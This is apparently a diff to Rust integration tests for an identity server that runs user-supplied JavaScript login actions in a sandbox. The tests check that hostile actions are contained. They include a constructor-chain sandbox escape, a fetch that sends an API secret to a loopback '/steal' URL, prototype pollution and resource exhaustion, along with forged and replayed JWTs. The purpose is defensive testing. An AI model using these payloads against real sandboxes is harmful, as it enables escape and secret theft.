@@ -5,20 +5,23 @@ use std::io::Read;
 use std::path::{Path, PathBuf};
 use std::time::Duration;
 
+use gatehouse::actions::RunError;
 use gatehouse::types::UserId;
 
 use crate::harness::*;
 
 /// Write `source` to a file of `dir` and return its path.
-fn script(dir: &TempDir, name: &str, source: &str) -> PathBuf {
+pub fn script(dir: &TempDir, name: &str, source: &str) -> PathBuf {
     let p = dir.0.join(name);
     std::fs::write(&p, source).unwrap();
     p
 }
 
-fn with_actions(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Path)]) -> String {
+pub fn with_actions(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Path)]) -> String {
     let mut config = crate::harness::config("ES256");
-    config.push_str("\n[actions]\ncpu_ms = 100\nmemory_limit_mb = 16\n");
+    // Limits other than the defaults (16 MiB, 100 ms), so the tests show configured values
+    // apply; a generous time limit, so a loaded 2-core machine passes.
+    config.push_str("\n[actions]\ntime_limit_ms = 1500\nmemory_limit_mb = 8\n");
     for (name, path) in post_login {
         config.push_str(&format!(
             "[[actions.post_login]]\nname = \"{name}\"\nfile = \"{}\"\nsecrets = {{ API_KEY = \"action-secret-value-42\" }}\n",
@@ -32,7 +35,7 @@ fn with_actions(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Pa
     config
 }
 
-async fn app_with(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Path)]) -> TestApp {
+pub async fn app_with(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Path)]) -> TestApp {
     TestApp::with(Options { config: Some(with_actions(post_login, credentials_exchange)), ..Default::default() }).await
 }
 
@@ -49,7 +52,7 @@ async fn make_ada_a_beta_tester(app: &TestApp) {
     app.core.store.users.put(&ada).await.unwrap();
 }
 
-async fn login_as(app: &TestApp, b: &reqwest::Client, client: &str, user: &str, password: &str) -> String {
+pub async fn login_as(app: &TestApp, b: &reqwest::Client, client: &str, user: &str, password: &str) -> String {
     let (verifier, challenge) = pkce();
     let redirect = if client == "web" { WEB_REDIRECT } else { SPA_REDIRECT };
     let extra: &[(&str, &str)] = if client == "spa" { &[("connection", "admins")] } else { &[] };
@@ -128,6 +131,7 @@ async fn claims_scopes_metadata_and_machine_tokens() {
     let at = claims(t["access_token"].as_str().unwrap());
     assert_eq!(at["https://app.test/tier"], "gold");
     assert_eq!(at["scope"], "openid profile email read:beta", "a scope added, one removed");
+    assert_eq!(t["scope"], "openid profile email read:beta", "the token response's scope says so too (RFC 6749 5.1)");
     let id = claims(t["id_token"].as_str().unwrap());
     assert_eq!(id["sub"], "auth0|ada", "reserved claims cannot be overwritten");
     assert_eq!(id["iss"], app.issuer);
@@ -218,37 +222,65 @@ async fn hostile_actions_end_only_their_own_run() {
             r#"exports.onExecutePostLogin = async (event, api) => {{
                  if (event.user.email === "root@example.com") {{ {body} }}
                  api.idToken.setCustomClaim("ok", true);
+                 api.idToken.setCustomClaim("polluted", ({{}}).isAdmin === true);
                }};"#
         )
     };
-    let cases = [
-        ("loop", "while (true) {}".to_owned()),
-        ("await-loop", "await null; while (true) {}".to_owned()),
-        ("memory", "const a = []; while (true) a.push('x'.repeat(1 << 20));".to_owned()),
-        ("recursion", "const f = (n) => f(n + 1) + 1; f(0);".to_owned()),
-        ("escape", "this.constructor.constructor('return process')().exit(1);".to_owned()),
-        ("fetch", format!("await fetch('http://127.0.0.1:{port}/steal?k=' + event.secrets.API_KEY);")),
-        ("pollute", "Object.prototype.isAdmin = true; throw new Error('leaked ' + event.secrets.API_KEY);".to_owned()),
+    // Each case with the reason it must end for: a case stopped for another reason fails.
+    type Case = (&'static str, String, fn(&RunError) -> bool);
+    let cases: [Case; 7] = [
+        ("loop", "while (true) {}".to_owned(), |e| *e == RunError::Deadline(1500)),
+        ("await-loop", "await null; while (true) {}".to_owned(), |e| *e == RunError::Deadline(1500)),
+        // 8 MiB configured: the memory limit stops it, long before the time limit.
+        ("memory", "const a = []; while (true) a.push('x'.repeat(1 << 20));".to_owned(), |e| *e == RunError::Memory(8)),
+        (
+            "recursion",
+            "const f = (n) => f(n + 1) + 1; f(0);".to_owned(),
+            |e| matches!(e, RunError::Threw(m) if m.contains("Maximum call stack size exceeded")),
+        ),
+        ("escape", "({}).constructor.constructor('return process')().exit(1);".to_owned(), |e| {
+            *e == RunError::Threw("process is not defined".into())
+        }),
+        ("fetch", format!("await fetch('http://127.0.0.1:{port}/steal?k=' + event.secrets.API_KEY);"), |e| {
+            *e == RunError::Threw("fetch is not defined".into())
+        }),
+        (
+            "pollute",
+            "Object.prototype.isAdmin = true; throw new Error('leaked ' + event.secrets.API_KEY);".to_owned(),
+            |e| *e == RunError::Threw("leaked [redacted]".into()),
+        ),
     ];
-    for (name, body) in cases {
+    for (name, body, reason) in cases {
         let path = script(&dir, &format!("{name}.js"), &hostile(&body));
         let app = app_with(&[(name, &path)], &[]).await;
+        assert_eq!(
+            app.core.settings.actions.limits,
+            gatehouse::actions::Limits {
+                memory_bytes: 8 << 20,
+                time: Duration::from_millis(1500),
+                ..Default::default()
+            },
+            "the configured limits are the ones in force"
+        );
         let b = browser();
         let (_, challenge) = pkce();
         let url = authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("connection", "admins")]);
         let started = std::time::Instant::now();
         let r = submit_credentials(&app, &b, &url, "root@example.com", OTHER_PASSWORD).await;
-        assert!(started.elapsed() < Duration::from_secs(3), "{name}: bounded by the sandbox limits");
+        assert!(started.elapsed() < Duration::from_secs(6), "{name}: bounded by the sandbox limits");
         assert_eq!(r.status(), 500, "{name}: the login is refused");
         assert!(r.headers().get("location").is_none(), "{name}: no code");
         let body = r.text().await.unwrap();
         assert!(body.contains("Sign-in could not be completed") && body.contains("correlation-id"), "{name}: {body}");
         assert!(!body.contains("action-secret-value-42"), "{name}: the secret is not shown");
+        // Why it ended: the same chain, with the limits the node loaded, on root's event.
+        let failed = why_it_fails(&app, serde_json::json!({ "user": { "email": "root@example.com" } })).await;
+        assert!(reason(&failed.error), "{name}: ended for the wrong reason: {:?}", failed.error);
         // The next, benign login on the same node succeeds, and sees no pollution.
         let id = login_as(&app, &browser(), "web", "ada@example.com", PASSWORD).await;
         let c = claims(&id);
         assert_eq!(c["ok"], true, "{name}: the node still serves logins");
-        assert!(c.get("isAdmin").is_none());
+        assert_eq!(c["polluted"], false, "{name}: Object.prototype is fresh in the next run");
     }
     let mut buf = [0u8; 1];
     assert!(listener.accept().map(|(mut s, _)| s.read(&mut buf)).is_err(), "fetch reached the loopback listener");
@@ -306,7 +338,7 @@ fn check_config_reports_action_syntax_errors() {
 }
 
 /// A one-request HTTP server on loopback: answers `body` as JSON and reports what it read.
-fn one_shot_server(body: &'static str) -> (u16, std::sync::mpsc::Receiver<String>) {
+pub fn one_shot_server(body: &'static str) -> (u16, std::sync::mpsc::Receiver<String>) {
     use std::io::Write;
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port();
@@ -402,6 +434,43 @@ async fn pre_user_registration_shapes_or_refuses_new_users() {
     assert!(app.core.store.users.get(&UserId::parse("auth0|root").unwrap()).await.unwrap().is_none(), "no user stored");
 }
 
+const CONTINUE_SECRET: &str = "action-secret-value-42";
+
+/// Run the node's post-login chain directly on `event`, to see why it fails.
+pub async fn why_it_fails(app: &TestApp, event: serde_json::Value) -> gatehouse::actions::ActionFailed {
+    gatehouse::actions::run(
+        &app.core.settings.actions,
+        gatehouse::actions::Trigger::PostLogin,
+        &event,
+        app.core.store.action_cache.as_ref(),
+    )
+    .await
+    .unwrap_err()
+}
+
+pub fn sign_hs256(claims: serde_json::Value) -> String {
+    let mut claims = claims;
+    claims["exp"] = (std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() + 60).into();
+    jsonwebtoken::encode(
+        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
+        &claims,
+        &jsonwebtoken::EncodingKey::from_secret(CONTINUE_SECRET.as_bytes()),
+    )
+    .unwrap()
+}
+
+pub fn verify_hs256(token: &str) -> serde_json::Value {
+    let mut v = jsonwebtoken::Validation::new(jsonwebtoken::Algorithm::HS256);
+    v.validate_aud = false;
+    jsonwebtoken::decode::<serde_json::Value>(
+        token,
+        &jsonwebtoken::DecodingKey::from_secret(CONTINUE_SECRET.as_bytes()),
+        &v,
+    )
+    .unwrap()
+    .claims
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn redirect_and_continue_complete_the_login_once() {
     let dir = TempDir::new();
@@ -432,9 +501,11 @@ async fn redirect_and_continue_complete_the_login_once() {
         "no session yet"
     );
     let state = param(&away, "state").unwrap();
-    let token = param(&away, "session_token").unwrap();
-
-    // The external page sends the person back with the token.
+    let sent = param(&away, "session_token").unwrap();
+    // The external page reads the action's token and answers with its own, carrying the
+    // `state` it was sent (as Auth0 requires of the token validateToken checks).
+    let user = verify_hs256(&sent)["user"].as_str().unwrap().to_owned();
+    let token = sign_hs256(serde_json::json!({ "user": user, "state": state }));
     let back = format!("{}?state={state}&session_token={token}", app.url("/continue"));
     let another_browser = browser();
     assert_eq!(
@@ -452,18 +523,20 @@ async fn redirect_and_continue_complete_the_login_once() {
     assert_eq!(id["before_redirect"], true, "claims from before the redirect are kept");
     assert_eq!(b.get(&back).send().await.unwrap().status(), 400, "a continue state works once");
 
-    // A forged token fails validateToken: the login is refused.
+    // Signed with the right secret but made for the first login (another state), or with no
+    // state at all: it does not continue another login.
     let b = browser();
     let (_, challenge) = pkce();
-    let r = submit_credentials(
-        &app,
-        &b,
-        &authorize_url(&app, "web", WEB_REDIRECT, &challenge, &[]),
-        "ada@example.com",
-        PASSWORD,
-    )
-    .await;
-    let state = param(&location(&r), "state").unwrap();
+    let authorize = authorize_url(&app, "web", WEB_REDIRECT, &challenge, &[]);
+    let start = || submit_credentials(&app, &b, &authorize, "ada@example.com", PASSWORD);
+    for replayed in [token.clone(), sign_hs256(serde_json::json!({ "user": "auth0|ada" }))] {
+        let state = param(&location(&start().await), "state").unwrap();
+        let r = b.get(format!("{}?state={state}&session_token={replayed}", app.url("/continue"))).send().await.unwrap();
+        assert_eq!(r.status(), 500, "a token of another login is refused");
+        assert!(r.headers().get("location").is_none());
+    }
+    // A forged token fails validateToken: the login is refused.
+    let state = param(&location(&start().await), "state").unwrap();
     let forged = format!(
         "{}?state={state}&session_token=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYWRtaW4ifQ.AAAA",
         app.url("/continue")
@@ -471,51 +544,4 @@ async fn redirect_and_continue_complete_the_login_once() {
     let r = b.get(&forged).send().await.unwrap();
     assert_eq!(r.status(), 500);
     assert!(r.headers().get("location").is_none());
-}
-
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_secret_an_action_throws_never_reaches_the_log() {
-    let dir = TempDir::new();
-    let leak = script(
-        &dir,
-        "leak.js",
-        "exports.onExecutePostLogin = async (event) => { throw new Error('the key is ' + event.secrets.API_KEY); };",
-    );
-    let port = free_port();
-    let issuer = format!("http://127.0.0.1:{port}");
-    let config = dir.0.join("gatehouse.toml");
-    std::fs::write(&config, with_actions(&[("leak", &leak)], &[]).replace("{issuer}", &issuer)).unwrap();
-    let log = dir.0.join("stderr.log");
-    let listen = format!("127.0.0.1:{port}");
-    let mut node = spawn_node(
-        &dir.0,
-        port,
-        &["serve", "--config", config.to_str().unwrap(), "--listen", &listen],
-        &[("GATEHOUSE_LOG", "trace")],
-        std::process::Stdio::from(std::fs::File::create(&log).unwrap()),
-    );
-    let b = browser();
-    let (_, challenge) = pkce();
-    let mut url = url::Url::parse(&format!("{issuer}/authorize")).unwrap();
-    url.query_pairs_mut().extend_pairs([
-        ("response_type", "code"),
-        ("client_id", "web"),
-        ("redirect_uri", WEB_REDIRECT),
-        ("scope", "openid"),
-        ("code_challenge", challenge.as_str()),
-        ("code_challenge_method", "S256"),
-    ]);
-    let hosted = location(&b.get(url.as_str()).send().await.unwrap());
-    let page = b.get(format!("{issuer}{hosted}")).send().await.unwrap().text().await.unwrap();
-    let r = b
-        .post(format!("{issuer}{hosted}/credentials"))
-        .form(&[("csrf", hidden(&page, "csrf").as_str()), ("username", "ada@example.com"), ("password", PASSWORD)])
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(r.status(), 500);
-    node.stop();
-    let logs = std::fs::read_to_string(&log).unwrap();
-    assert!(logs.contains("action failed") && logs.contains("[redacted]"), "the failure is logged:\n{logs}");
-    assert!(!logs.contains("action-secret-value-42"), "the secret is in the log");
 }
